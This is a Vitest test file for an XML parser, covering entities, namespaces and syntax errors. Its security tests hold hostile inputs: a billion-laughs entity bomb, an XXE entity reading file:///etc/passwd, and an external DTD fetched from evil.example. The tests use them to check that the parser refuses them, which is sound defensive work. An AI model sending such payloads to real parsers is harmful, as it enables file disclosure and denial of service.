import { describe, expect, it } from 'vitest';
import { parseXmlDocument, XmlSyntaxError } from './xml-document';
import type { XmlElement } from './xml-document';
import { MAX_ENTITY_EXPANSION } from './xml-entities';

/** Text content of an element, without its child elements. */
function ownText(element: XmlElement): string {
  return element.children.filter((child): child is string => typeof child === 'string').join('');
}

function failure(xml: string): XmlSyntaxError {
  try {
    parseXmlDocument(xml);
  } catch (error) {
    if (error instanceof XmlSyntaxError) return error;
    throw error;
  }
  throw new Error('expected a syntax error');
}

describe('parseXmlDocument', () => {
  it('reads elements, attributes, text and CDATA, skipping comments and processing instructions', () => {
    const xml = `<?xml version="1.0"?>\n<!-- top --><a x='1' y="two words"><b/>t&lt;1<![CDATA[<raw> & ]]><?go now?></a>`;
    const root = parseXmlDocument(xml);
    expect(root).toMatchObject({
      localName: 'a',
      attributes: [
        { qname: 'x', value: '1' },
        { qname: 'y', value: 'two words' },
      ],
    });
    expect(root.children).toEqual([
      { namespace: '', localName: 'b', qname: 'b', attributes: [], children: [], line: 2 },
      't<1<raw> & ',
    ]);
  });

  it('expands predefined, numeric and DOCTYPE-declared entities, also inside attributes', () => {
    const xml = [
      '<!DOCTYPE r [',
      '  <!ENTITY skos "http://www.w3.org/2004/02/skos/core#">',
      "  <!ENTITY both '&skos;Concept'>",
      '  <!ENTITY % param "ignored">',
      '  <!ELEMENT r ANY>',
      '  <!-- a comment with ] and > -->',
      ']>',
      '<r a="&both;" b="&#x41;&#66;&amp;&quot;">caf&#233; &apos;&#8211;&apos; &skos;</r>',
    ].join('\n');
    const warnings: string[] = [];
    const root = parseXmlDocument(xml, { onWarning: (message) => warnings.push(message) });
    expect(root.attributes).toMatchObject([
      { qname: 'a', value: 'http://www.w3.org/2004/02/skos/core#Concept' },
      { qname: 'b', value: 'AB&"' },
    ]);
    expect(ownText(root)).toBe("café '–' http://www.w3.org/2004/02/skos/core#");
    expect(warnings).toEqual(['parameter entity %param; ignored']);
  });

  it('normalises line breaks and whitespace in attribute values', () => {
    expect(parseXmlDocument('<a v="x\r\n\ty"/>').attributes).toMatchObject([{ qname: 'v', value: 'x  y' }]);
  });

  it('refuses unknown entities and bare ampersands as malformed XML', () => {
    // The former tokenizer kept them as text with a warning; saxes holds to XML well-formedness.
    expect(failure('<a>&nope; more</a>').message).toMatch(/undefined entity \(line 1, column 10\)/);
    expect(failure('<a>\n & more</a>')).toMatchObject({ line: 2 });
  });

  it('reports malformed XML with its line and column', () => {
    expect(failure('<a>\n  <b></a>')).toMatchObject({ line: 2, column: 10 });
    expect(failure('<a>\n  <b></a>').message).toContain('unexpected close tag');
    expect(failure('<a x=1/>').message).toContain('unquoted attribute value');
    expect(failure('<a><!-- never closed </a>').message).toContain('unclosed tag: a');
    expect(failure('<a></a><b/>').message).toContain('documents may contain only one root');
    expect(failure('<a>').message).toContain('unclosed tag: a');
    expect(failure('<a b="1" b="2"/>').message).toContain('duplicate attribute: b');
    expect(failure('<!DOCTYPE r [\n<!ENTITY a "x">\n<!')).toMatchObject({ line: 3 });
    expect(failure('<!DOCTYPE r [ <!ENTITY a "x').message).toContain('document must contain a root element');
    expect(failure('').message).toContain('document must contain a root element');
  });

  it('refuses exponential entity expansion (billion laughs) before expanding anything', () => {
    const levels = ['<!ENTITY l0 "ha">'];
    for (let i = 1; i <= 12; i += 1) levels.push(`<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`);
    const bomb = `<!DOCTYPE r [${levels.join('')}]><r>&l12;</r>`;
    expect(() => parseXmlDocument(bomb)).toThrow(/XML entity refused: &l\d+; expands beyond the safety limit/);
  });

  it('refuses a small entity referenced often enough to exceed the expansion limit', () => {
    const value = 'x'.repeat(1000);
    const references = '&e;'.repeat(MAX_ENTITY_EXPANSION / 1000 + 1);
    expect(() => parseXmlDocument(`<!DOCTYPE r [<!ENTITY e "${value}">]><r>${references}</r>`)).toThrow(
      /entity expansion exceeds the safety limit/,
    );
  });

  it('refuses external entities instead of loading them', () => {
    const xxe = '<!DOCTYPE r [<!ENTITY secret SYSTEM "file:///etc/passwd">]><r>&secret;</r>';
    expect(() => parseXmlDocument(xxe)).toThrow(
      /XML entity refused: &secret; is an external entity \(SYSTEM "file:\/\/\/etc\/passwd"\)/,
    );
    const parameter = '<!DOCTYPE r [<!ENTITY % dtd PUBLIC "-//x" "http://evil.example/x.dtd"> %dtd;]><r/>';
    expect(() => parseXmlDocument(parameter)).toThrow(/%dtd; is an external entity/);
  });

  it('resolves prefixes and default namespaces with scoping', () => {
    const root = parseXmlDocument('<r xmlns="urn:d" xmlns:p="urn:p"><p:a p:x="1" y="2"><b xmlns="urn:e"/></p:a></r>');
    expect(root).toMatchObject({ namespace: 'urn:d', localName: 'r' });
    const a = root.children[0];
    expect(a).toMatchObject({
      namespace: 'urn:p',
      localName: 'a',
      attributes: [
        { namespace: 'urn:p', localName: 'x', value: '1' },
        { namespace: '', localName: 'y', value: '2' },
      ],
    });
    expect(typeof a !== 'string' && a?.children[0]).toMatchObject({ namespace: 'urn:e', localName: 'b' });
  });

  it('rejects an undeclared prefix', () => {
    expect(() => parseXmlDocument('<q:r/>')).toThrow(/unbound namespace prefix: "q"/);
  });
});
